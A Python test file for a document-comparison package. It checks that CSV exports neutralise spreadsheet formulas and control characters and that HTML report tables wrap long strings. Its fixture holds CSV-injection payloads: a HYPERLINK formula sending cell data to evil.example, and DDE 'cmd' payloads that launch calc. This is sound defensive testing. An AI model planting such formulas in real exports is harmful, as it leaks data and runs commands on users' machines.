"""Exports that are safe to open (issue 15): no spreadsheet formula, no control character in any
CSV the package writes, and long unbroken strings wrap in every HTML table."""

from __future__ import annotations

import csv
import io

import pandas as pd

from dxcompare.cli import main
from dxcompare.reporting.csvsafe import safe_cell
from dxcompare.reporting.notebook import save_table
from support import ROOT

HOSTILE_CELLS = {
    '=HYPERLINK("http://evil.example/?q="&A1,"Xem")': '\'=HYPERLINK("http://evil.example/?q="&A1,"Xem")',
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+84 912 345 678": "'+84 912 345 678",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\n=1+1",
    "Nghị quyết\x00 số 05-NQ/TU\x07\x1b": "Nghị quyết số 05-NQ/TU",
    "Tỉnh Bắc Ninh đạt 95%": "Tỉnh Bắc Ninh đạt 95%",
}


def test_save_table_neutralises_formulas_and_removes_control_characters(tmp_path):
    df = pd.DataFrame({"title": list(HOSTILE_CELLS), "n": range(len(HOSTILE_CELLS))})
    df["score"] = -1.5  # numbers stay numbers
    save_table(df, "bang", tmp_path)
    raw = (tmp_path / "bang.csv").read_bytes()
    assert b"\x00" not in raw and b"\x07" not in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert [r["title"] for r in rows] == list(HOSTILE_CELLS.values())
    assert {r["score"] for r in rows} == {"-1.5"}
    # The table shown in the notebook is the caller's, unchanged.
    assert df["title"].iloc[0].startswith("=")


def test_extract_csv_neutralises_formulas_from_file_names(tmp_path, capsys):
    """A document's id is its file name: ``=1+2.txt`` and ``@SUM(A1).txt`` start formulas."""
    text = (
        "Bắc Ninh đẩy mạnh chuyển đổi số\n"
        "Ngày 03/4/2023, UBND tỉnh Bắc Ninh ban hành Kế hoạch số 12/KH-UBND về chuyển đổi số.\n"
    )
    (tmp_path / "=1+2.txt").write_text(text, encoding="utf-8")
    (tmp_path / "@SUM(A1).txt").write_text(text.replace("12/KH", "13/KH"), encoding="utf-8")
    assert main(["extract", str(tmp_path), "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out, newline="")))
    assert {row["doc_id"] for row in rows} == {"'=1+2", "'@SUM(A1)"}
    cells = [value for row in rows for value in row.values() if value]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_safe_cell_leaves_non_text_alone():
    assert safe_cell(-3) == -3 and safe_cell(None) is None and safe_cell(2.5) == 2.5


def test_every_report_table_wraps_long_unbroken_strings():
    for template in (
        ROOT / "lib/dxcompare/templates/dxcompare/index.html.j2",
        ROOT / "lib/dxcompare/templates/reports_index.html.j2",
    ):
        css = template.read_text(encoding="utf-8")
        assert "overflow-wrap: anywhere" in css, template
    report_css = (ROOT / "lib/dxcompare/templates/dxcompare/index.html.j2").read_text()
    assert "td, th { overflow-wrap: anywhere; }" in report_css
